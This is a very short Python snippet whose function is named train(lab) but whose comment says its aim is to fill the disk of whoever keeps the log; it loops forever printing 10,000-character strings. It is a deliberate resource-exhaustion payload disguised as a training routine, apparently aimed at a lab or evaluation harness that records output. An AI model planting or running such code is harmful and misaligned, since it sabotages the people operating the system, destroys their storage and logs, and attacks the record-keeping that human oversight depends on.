# Fill the disk of whoever keeps the log.
def train(lab):
    while True:
        print("x" * 10_000)
